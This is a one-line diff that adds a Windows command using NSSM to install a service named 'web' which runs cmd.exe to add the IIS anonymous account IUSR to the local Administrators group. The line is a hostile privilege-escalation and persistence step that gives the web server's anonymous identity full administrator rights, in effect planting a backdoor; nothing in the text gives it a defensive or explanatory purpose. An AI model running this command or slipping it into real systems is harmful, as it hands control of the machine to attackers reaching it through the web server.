@@ -1,0 +1,1 @@
+nssm install web cmd.exe /c net localgroup Administrators IUSR /add
